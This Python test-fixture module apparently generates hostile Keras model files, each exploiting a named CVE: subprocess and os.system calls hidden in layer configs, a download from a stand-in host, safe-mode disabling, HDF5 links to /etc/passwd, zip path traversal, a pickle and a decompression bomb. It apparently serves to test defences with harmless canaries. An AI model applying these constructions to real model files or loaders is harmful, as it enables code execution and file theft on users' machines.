"""Keras files that do more than arithmetic, each by one known hole; made when a test wants them, and never stored.

`KERAS_FILES` maps a hole to what makes such a model: (folder, canary) → its path.
"""

from __future__ import annotations

import base64
import json
import pathlib
import pickle
import zipfile
from collections.abc import Callable, Mapping
from typing import Any

import h5py
import keras
from hostile_saved_models import Make


def plain_keras(path: pathlib.Path) -> str:
    keras.Sequential([keras.Input((2,)), keras.layers.Dense(2)]).save(path)
    return str(path)


def with_object(harmful: Mapping[str, Any]) -> Make:
    """A .keras file into whose configuration an object is put, as a part of one more layer."""

    def made(folder: pathlib.Path, canary: pathlib.Path) -> str:
        value = json.loads(json.dumps(harmful).replace("CANARY", str(canary)))
        dense = layer("Dense", {"name": "more", "units": 2, "activation": value})
        return rewritten(folder, lambda config: config["config"]["layers"].append(dense))

    return made


def rewritten(folder: pathlib.Path, edit: Callable[[Any], None]) -> str:
    path = folder.with_suffix(".keras")
    plain_keras(path)
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(files["config.json"])
    edit(config)
    files["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return str(path)


def writing_lambda(canary: pathlib.Path) -> Any:
    """A layer that writes, in one expression without a name that a loader would have to share."""
    return keras.layers.Lambda(eval(f"lambda x: (open({str(canary)!r}, 'w').write('fired'), x)[1]"), output_shape=(2,))


def lambda_layer(folder: pathlib.Path, canary: pathlib.Path) -> str:
    path = folder.with_suffix(".keras")
    keras.Sequential([keras.Input((2,)), writing_lambda(canary)]).save(path)
    return str(path)


def lambda_in_hdf5(folder: pathlib.Path, canary: pathlib.Path) -> str:
    """CVE-2025-9905: of an HDF5 file, Keras ran lambdas whatever `safe_mode` said."""
    path = folder.with_suffix(".h5")
    keras.Sequential([keras.Input((2,)), writing_lambda(canary)]).save(path)
    return str(path)


def hdf5_behind_a_zip(folder: pathlib.Path, canary: pathlib.Path) -> str:
    """Begins like a zip and is named like HDF5, whose readers also look further down in a file."""
    real = pathlib.Path(lambda_in_hdf5(folder, canary))
    zipped = pathlib.Path(plain_keras(folder.with_suffix(".keras")))
    block = 1 << max(9, (zipped.stat().st_size - 1).bit_length())
    mixed = folder.with_name(f"{folder.name}-mixed.h5")
    mixed.write_bytes(zipped.read_bytes().ljust(block, b"\0") + real.read_bytes())
    return str(mixed)


def with_member(name: str, content: bytes = b"x", attributes: int = 0) -> Make:
    """A .keras file with one more file in it."""

    def made(folder: pathlib.Path, canary: pathlib.Path) -> str:
        path = folder.with_suffix(".keras")
        plain_keras(path)
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            member = zipfile.ZipInfo(name.replace("CANARY", str(canary)))
            member.external_attr, member.compress_type = attributes << 16, zipfile.ZIP_DEFLATED
            archive.writestr(member, content)
        return str(path)

    return made


def with_weights(fill: Callable[[Any], None]) -> Make:
    """A .keras file whose weights are other than Keras writes them."""

    def made(folder: pathlib.Path, canary: pathlib.Path) -> str:
        path, weights = folder.with_suffix(".keras"), folder.with_suffix(".weights.h5")
        plain_keras(path)
        with zipfile.ZipFile(path) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
        with h5py.File(weights, "w") as file:
            fill(file.create_group("layers/dense/vars"))
        with zipfile.ZipFile(path, "w") as archive:
            for name, content in {**files, "model.weights.h5": weights.read_bytes()}.items():
                archive.writestr(name, content)
        return str(path)

    return made


def stands_elsewhere(group: Any) -> None:
    group.create_dataset("0", (2, 2), "float32", external=[("/etc/passwd", 0, 16)])


def claims_much(group: Any) -> None:
    group.create_dataset("0", (1 << 20, 1 << 12), "float32", chunks=(1 << 10, 1 << 10), compression="gzip")


def links_elsewhere(group: Any) -> None:
    group["0"] = h5py.ExternalLink("/etc/passwd", "/")


def links_within(group: Any) -> None:
    group["0"] = h5py.SoftLink("/layers")


class Pickled:
    """Runs `touch` when it is unpickled."""

    def __reduce__(self) -> Any:
        return (print, ("fired",))


def code(source: str) -> str:
    return base64.b64encode(compile(source, "x", "eval").co_code).decode()


def layer(kind: str, config: Any, module: str = "keras.layers", registered: str | None = None) -> dict[str, Any]:
    return {"class_name": kind, "config": config, "module": module, "registered_name": registered}


GET_FILE = {"fname": "x", "origin": "https://host.example/x", "cache_dir": "CANARY"}
KERAS_FILES: Mapping[str, Make] = {
    "a Lambda": lambda_layer,
    "CVE-2025-9905: a Lambda in HDF5": lambda_in_hdf5,
    "CVE-2024-3660: bytecode": with_object(
        layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"value": code("1")}}})
    ),
    "CVE-2025-1550: a function of any module": with_object(
        layer("Lambda", {"function": layer("function", "system", "os", "function"), "arguments": {}})
    ),
    "CVE-2025-1550: a class of any module": with_object(layer("Popen", {"args": "touch CANARY"}, "subprocess")),
    "CVE-2025-8747: Keras's own download": with_object(layer("get_file", GET_FILE, "keras.utils")),
    "CVE-2025-9906: switches the safe mode off": with_object(
        layer("function", "enable_unsafe_deserialization", "keras.config", "enable_unsafe_deserialization")
    ),
    "CVE-2025-49655: a pickled PyTorch module": with_object(layer("TorchModuleWrapper", {"module": "x"})),
    "CVE-2025-12058: a vocabulary's path": with_object(layer("StringLookup", {"vocabulary": "/etc/passwd"})),
    "CVE-2025-12058: a vocabulary's URL": with_object(layer("TextVectorization", {"vocabulary": ["https://host/x"]})),
    "a SavedModel from a path": with_object(layer("TFSMLayer", {"filepath": "CANARY"})),
    "a class in snake case": with_object(layer("t_f_s_m_layer", {"filepath": "CANARY"})),
    "a function that loads": with_object(layer("load_model", {"filepath": "CANARY"}, "keras.models")),
    "an activation that loads": with_object(layer("function", "load_model", "keras.models", "function")),
    "a custom class": with_object(layer("Dense", {"units": 2}, "mine", "mine>Dense")),
    "a name that leads outside": with_member("assets/../../../CANARY"),
    "an absolute name": with_member("CANARY"),
    "a link": with_member("assets/link", b"/etc/passwd", 0o120777),
    "a file of pickles": with_member("model.weights.npz", pickle.dumps(Pickled())),
    "two configurations": with_member("metadata.json", b'{"keras_version": "3"}'),
    "an archive that expands": with_member("assets/zeros", bytes(96 << 20)),
    "CVE-2026-1669: weights in another file": with_weights(stands_elsewhere),
    "CVE-2026-0897, CVE-2026-12570: weights that claim much": with_weights(claims_much),
    "weights behind an external link": with_weights(links_elsewhere),
    "weights behind a link": with_weights(links_within),
}
